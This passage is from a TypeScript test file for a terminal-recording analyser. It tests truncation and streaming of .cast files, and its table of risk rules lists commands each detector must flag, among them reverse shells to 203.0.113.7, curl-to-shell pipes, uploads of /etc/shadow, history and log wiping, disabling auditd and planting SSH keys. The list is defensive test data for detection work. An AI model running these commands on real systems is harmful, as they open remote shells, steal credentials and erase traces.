    const dir = mkdtempSync(join(tmpdir(), 'airlock-analysis-'));
    try {
      const path = join(dir, 'session.cast');
      writeFileSync(path, bytes);
      expect(await analyseFile(path)).toEqual(whole);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('stops at a torn last line and keeps what came before', async () => {
    const complete = sample().text();
    const torn = complete + '[9.5, "o", "half a li';
    const r = await analyse(torn);
    const full = await analyse(complete);
    expect(r.truncated).toBe(true);
    expect(full.truncated).toBe(false);
    expect({ ...r, truncated: false }).toEqual(full);
    // A torn multi-byte character too.
    const cut = Buffer.concat([Buffer.from(complete), Buffer.from('[9.5, "o", "日本').subarray(0, 16)]);
    expect((await analyseCast([cut])).truncated).toBe(true);
  });

  it('reads a last line that only lacks its newline', async () => {
    const text = new Session().out(PROMPT).type('ls').text() + '[9.5, "i", "\\r"]';
    const r = await analyse(text);
    expect(r.truncated).toBe(false);
    expect(texts(r)).toEqual(['ls']);
    expect(r.duration).toBe(9.5);
  });

  it('stops at a line that is not an event, even before the end', async () => {
    const s = new Session().out(PROMPT).run('whoami', 'user\r\n');
    const r = await analyse(s.text() + '{"not": "an event"}\n' + eventLine(20, 'o', 'later'));
    expect(r.truncated).toBe(true);
    expect(r.duration).toBeCloseTo(s.t, 6);
    expect(texts(r)).toEqual(['whoami']);
  });

  it('handles an empty file, a torn header, and refuses what is no recording', async () => {
    expect(await analyseCast([])).toMatchObject({ kind: 'terminal', commands: [], keyframes: [], events: 0, truncated: false });
    expect(await analyse('{"version": 2, "wid')).toMatchObject({ commands: [], keyframes: [], events: 0, truncated: true });
    for (const text of ['hello world\n[0.1, "o", "x"]\n', '{"version": 1, "width": 80}\n', '[0.1, "o", "x"]\n']) {
      await expect(analyse(text)).rejects.toSatisfy((e: unknown) => isAirlockError(e, 'ERR_INVALID_INPUT'));
    }
  });

  it('streams a 20 MB recording without holding it', async () => {
    // A forced GC after each chunk (v8 lets a running process expose it) keeps
    // garbage from hiding what is really held; a warm-up run grows the heap first.
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const dir = mkdtempSync(join(tmpdir(), 'airlock-analysis-'));
    try {
      const path = join(dir, 'big.cast');
      const out = createWriteStream(path);
      out.write(new Session({ cols: 120, rows: 40 }).text());
      let t = 0;
      let written = 0;
      let command = 0;
      while (written < 20e6) {
        let block = '';
        for (let i = 0; i < 100; i++) {
          const line = `-rw-r--r-- 1 user staff ${String(written % 99991).padStart(6)} Jan  1 12:00 \x1b[01;32mfile_${written}.txt\x1b[0m and some more text\r\n`;
          written += Buffer.byteLength(line);
          t += 0.001;
          block += eventLine(t, 'o', line);
        }
        if (written > command * 2e6) {
          // As the recorder writes a pasted command: echo, keys, Enter.
          command++;
          const typed = `ls -l /srv/${command}`;
          block += eventLine(t, 'o', PROMPT + typed) + eventLine(t, 'i', typed) + eventLine(t, 'i', '\r') + eventLine(t, 'o', '\r\n');
        }
        if (!out.write(block)) await once(out, 'drain');
      }
      await new Promise<void>((resolve, reject) => out.end((err?: Error | null) => (err ? reject(err) : resolve())));
      const size = statSync(path).size;
      expect(size).toBeGreaterThan(20e6);

      await analyseFile(path, {}); // warm-up
      gc();
      const before = process.memoryUsage();
      let rss = before.rss;
      let live = 0;
      async function* measured(): AsyncGenerator<Uint8Array> {
        for await (const chunk of createReadStream(path, { highWaterMark: 1024 * 1024 })) {
          yield chunk as Buffer;
          gc();
          const m = process.memoryUsage();
          rss = Math.max(rss, m.rss);
          live = Math.max(live, m.heapUsed + m.arrayBuffers - before.heapUsed - before.arrayBuffers);
        }
      }
      const r = await analyseCast(measured());
      expect(r.outputBytes).toBeGreaterThanOrEqual(20e6);
      expect(r.truncated).toBe(false);
      expect(texts(r)).toEqual(Array.from({ length: command }, (_, i) => `ls -l /srv/${i + 1}`));
      expect(r.keyframes.length).toBeGreaterThan(70); // every 256 KiB
      // Holding the file would take ≥ its size (more as strings); streaming takes a few MB.
      expect(live).toBeLessThan(size / 2);
      expect(rss - before.rss).toBeLessThan(size);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});

// ---------------------------------------------------------------------------
// Risk rules

/** Per rule: commands it must flag, and near misses it must not. */
const RULE_CASES: Record<string, { flags: string[]; not: string[] }> = {
  'recursive-delete-system': {
    flags: ['rm -rf /', 'sudo rm -fr /etc', 'rm --recursive --force /usr/', 'rm -r -f /*', 'rm -rf ~', 'rm -Rf "$HOME"', '/bin/rm -rf /var/log', 'rm -r /boot', 'rm -rf --no-preserve-root /'],
    not: ['rm -rf ./build', 'rm -rf /etc/nginx/sites-enabled/old', 'rm /etc/motd', 'rm -rf ~/cache', 'grep -rf patterns /etc'],
  },
  'recursive-delete': {
    flags: ['rm -rf ./build', 'rm -fr node_modules', 'sudo rm --recursive --force /opt/app/releases/41', 'rm -r -f tmp/', 'rm -Rfv dist'],
    not: ['rm -rf /', 'rm -r ./build', 'rm -f file.txt', 'git rm -r --cached .', 'npm run rm-rf', 'echo format-rf'],
  },
  'disk-wipe': {
    flags: ['dd if=/dev/zero of=/dev/sda bs=1M', 'sudo mkfs.ext4 /dev/sdb1', 'mkfs -t xfs /dev/vdb', 'wipefs -a /dev/nvme0n1', 'shred -n 3 /dev/sdc', 'cat image.iso > /dev/sdb'],
    not: ['dd if=/dev/sda of=disk.img', 'dd if=/dev/zero of=/dev/null count=1', 'ls /dev/sda', 'echo mkfsx', 'cat x > /dev/null'],
  },
  'file-shred': {
    flags: ['shred -u secrets.txt', 'shred -zu ~/.aws/credentials'],
    not: ['shred /dev/sda', 'ls shredded/', 'cat shred.log'],
  },
  'history-tampering': {
    flags: ['history -c', 'history -d 512', 'unset HISTFILE', 'export HISTSIZE=0', 'HISTFILESIZE=0', 'export HISTFILE=/dev/null', 'set +o history', 'rm ~/.bash_history', 'cat /dev/null > ~/.bash_history', 'ln -sf /dev/null /root/.bash_history', 'shred -u .zsh_history'],
    not: ['history', 'history | grep ssh', 'export HISTSIZE=10000', 'echo $HISTFILE', 'cat ~/.bash_history', 'set -o history'],
  },
  'log-wipe': {
    flags: ['> /var/log/auth.log', 'truncate -s 0 /var/log/syslog', 'sudo rm /var/log/secure', 'journalctl --vacuum-time=1s'],
    not: ['tail -f /var/log/syslog', 'less /var/log/auth.log', 'journalctl -u nginx'],
  },
  'security-disabled': {
    flags: ['setenforce 0', 'sudo setenforce Permissive', 'systemctl stop auditd', 'systemctl disable --now firewalld', 'sudo systemctl mask rsyslog.service', 'service auditd stop', 'auditctl -e 0', 'auditctl -D', 'ufw disable'],
    not: ['getenforce', 'setenforce 1', 'systemctl status auditd', 'systemctl stop nginx', 'systemctl restart rsyslog', 'ufw status', 'ufw allow 22'],
  },
  'firewall-flushed': {
    flags: ['iptables -F', 'sudo iptables -t nat -F', 'iptables --flush INPUT', 'ip6tables -F', 'nft flush ruleset'],
    not: ['iptables -L -n', 'iptables -A INPUT -p tcp --dport 22 -j ACCEPT', 'nft list ruleset'],
  },
  'root-shell': {
    flags: ['sudo su', 'sudo su -', 'sudo -i', 'sudo -s', 'sudo -u postgres -i', 'sudo bash', 'su -', 'su', 'su root', 'su - postgres'],
    not: ['sudo systemctl restart nginx', 'sudo -l', 'sudo -k', 'sudo ls -s', 'echo summary', 'curl -s https://x.example | sudo bash'],
  },
  'world-writable': {
    flags: ['chmod 777 /var/www', 'chmod -R 777 .', 'chmod 0666 /etc/app.conf', 'chmod o+w file', 'chmod a+rwx script.sh'],
    not: ['chmod 755 script.sh', 'chmod 644 file', 'chmod u+w file', 'chmod 4755 /usr/bin/x'],
  },
  setuid: {
    flags: ['chmod u+s /usr/bin/find', 'chmod +s ./shell', 'chmod 4755 /tmp/sh', 'chmod 2755 dir'],
    not: ['chmod 755 /usr/bin/find', 'chmod 1777 /tmp', 'chmod u+x run.sh'],
  },
  'admin-group': {
    flags: ['usermod -aG sudo bob', 'sudo usermod -a -G wheel alice', 'usermod -aG docker,sudo carol', 'gpasswd -a bob sudo', 'adduser bob sudo'],
    not: ['usermod -aG docker bob', 'groups bob', 'id -Gn'],
  },
  'password-change': {
    flags: ['passwd', 'sudo passwd root', 'echo "bob:pw" | chpasswd'],
    not: ['cat /etc/passwd', 'getent passwd bob'],
  },
  'sudoers-edit': {
    flags: ['visudo', 'sudo vim /etc/sudoers', "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", 'sudo tee /etc/sudoers.d/bob', 'nano /etc/sudoers.d/90-cloud'],
    not: ['cat /etc/sudoers', 'sudo -l', 'ls /etc/sudoers.d'],
  },
  'password-file': {
    flags: ['cat /etc/shadow', 'sudo vi /etc/shadow', 'cp /etc/gshadow /tmp/', "echo 'x:0:0::/root:/bin/bash' >> /etc/passwd", 'vipw'],
    not: ['cat /etc/passwd', 'getent passwd', 'ls -l /etc/group'],
  },
  'user-management': {
    flags: ['useradd -m -s /bin/bash support', 'sudo userdel -r bob', 'adduser tmpuser', 'groupadd ops'],
    not: ['id bob', 'who', 'getent group ops'],
  },
  'remote-code': {
    flags: ['curl -fsSL https://get.example.com | sh', 'curl -s https://x.example/i.sh | sudo bash', 'wget -qO- https://x.example/i | bash -s', 'curl https://x.example/p.py | python3', 'bash <(curl -s https://x.example/i.sh)', 'sh -c "$(curl -fsSL https://x.example/i.sh)"', 'echo ZWNobyBoaQ== | base64 -d | sh'],
    not: ['curl -o install.sh https://get.example.com', 'curl -s https://api.example.com | jq .', 'curl -s https://x.example/SHA256 | shasum -c', 'base64 -d blob > out.bin'],
  },
  'data-copy-out': {
    flags: ['scp /var/backups/db.sql.gz user@203.0.113.7:/tmp/', 'scp -r /etc backup:', 'rsync -avz /srv/data/ backup@10.0.0.9:/backups/', 'rsync -a /home/ rsync://mirror.example/home', 'scp root@db02:/etc/shadow .'],
    not: ['scp -h', 'rsync -a src/ dst/', 'cp db.sql /tmp/'],
  },
  'data-upload': {
    flags: ['curl -T db.sql ftp://203.0.113.7/', 'curl -F file=@/etc/shadow https://x.example/u', 'curl --data-binary @dump.sql https://x.example', 'wget --post-file=/etc/passwd https://x.example', 'tar czf - /etc | ssh user@203.0.113.7 "cat > etc.tgz"', 'cat /etc/passwd | nc 203.0.113.7 4444', 'nc 203.0.113.7 4444 < customers.csv'],
    not: ['curl -d "a=b" https://x.example', 'ssh db02 uptime', 'ps aux | grep ssh', 'tar czf etc.tgz /etc', 'nc -zv db02 5432'],
  },
  'reverse-shell': {
    flags: ['nc -e /bin/sh 203.0.113.7 4444', 'ncat -c bash 203.0.113.7 443', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'socat tcp:203.0.113.7:4444 exec:/bin/bash', 'python3 -c \'import pty;pty.spawn("/bin/bash")\'', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'],
    not: ['nc -lvnp 4444', 'nc -zv db02 22', 'ls /dev/tty*'],
  },
  'cron-removed': {
    flags: ['crontab -r', 'crontab -u bob -r'],
    not: ['crontab -l', 'crontab -e'],
  },
  'cron-edit': {
    flags: ['crontab -e', 'crontab mycron.txt', 'echo "* * * * * /tmp/x" | crontab -', 'echo "@reboot /tmp/x" >> /etc/crontab', 'sudo vim /etc/cron.d/backup'],
    not: ['crontab -l', 'crontab -u bob -l', 'cat /etc/crontab', 'ls /etc/cron.d'],
  },
  'ssh-key-planted': {
    flags: ['echo "ssh-ed25519 AAAA… x@y" >> ~/.ssh/authorized_keys', 'cat key.pub >> /root/.ssh/authorized_keys', 'tee -a ~/.ssh/authorized_keys < key.pub', 'vim ~/.ssh/authorized_keys', 'cp id.pub /home/bob/.ssh/authorized_keys2'],
    not: ['cat ~/.ssh/authorized_keys', 'ssh-keygen -l -f ~/.ssh/authorized_keys', 'ls -la ~/.ssh'],
  },
  'kernel-module': {
    flags: ['insmod ./rootkit.ko', 'sudo rmmod auditmod', 'modprobe -r nouveau', 'modprobe --remove lkrg'],
    not: ['lsmod', 'modprobe nvidia', 'modinfo ext4'],
  },
  shutdown: {
    flags: ['shutdown -h now', 'sudo reboot', 'halt', 'poweroff', 'init 0', 'sudo init 6', 'systemctl reboot', 'telinit 0'],
    not: ['./shutdown-check.sh', 'cat shutdown.log', 'uptime', 'init 3', 'systemctl status reboot.target'],
  },
};

describe('risk rules', () => {
  it('has cases for every rule, and every rule has a reason and a unique id', () => {
    const ids = RISK_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(Object.keys(RULE_CASES).sort()).toEqual([...ids].sort());
    for (const r of RISK_RULES) {
      expect(r.reason.length, r.id).toBeGreaterThan(10);
      expect(['high', 'medium']).toContain(r.severity);
      expect(RULE_CASES[r.id]?.flags.length, r.id).toBeGreaterThan(0);
      expect(RULE_CASES[r.id]?.not.length, r.id).toBeGreaterThan(0);
    }
  });

  for (const rule of RISK_RULES) {
    it(`${rule.id}: flags what it should and not its near misses`, () => {
      const cases = RULE_CASES[rule.id] ?? { flags: [], not: [] };
      for (const command of cases.flags) expect(risksOf(command).map((r) => r.rule), command).toContain(rule.id);
      for (const command of cases.not) expect(risksOf(command).map((r) => r.rule), command).not.toContain(rule.id);
    });
  }

  it('rates a recursive delete of the system high and of a project directory medium', () => {
    expect(risksOf('sudo rm -rf /etc')).toEqual([{ rule: 'recursive-delete-system', reason: expect.any(String) as string, severity: 'high' }]);
    expect(risksOf('rm -rf ./build')).toEqual([{ rule: 'recursive-delete', reason: expect.any(String) as string, severity: 'medium' }]);
    expect(risksOf('ls -la /tmp')).toEqual([]);
  });

  it('checks the start and the end of a very long pasted line', () => {
    const padding = 'echo ' + 'a'.repeat(300_000);
    expect(risksOf(`${padding}; curl -s https://x.example/i.sh | sh`).map((r) => r.rule)).toEqual(['remote-code']);
    expect(risksOf(`history -c; ${padding}`).map((r) => r.rule)).toEqual(['history-tampering']);
    // Many command words on one long line: checked in part, so this returns (vitest's timeout would catch it).
    expect(risksOf('sudo rm curl nc '.repeat(20_000))).toEqual([]);
  });
});
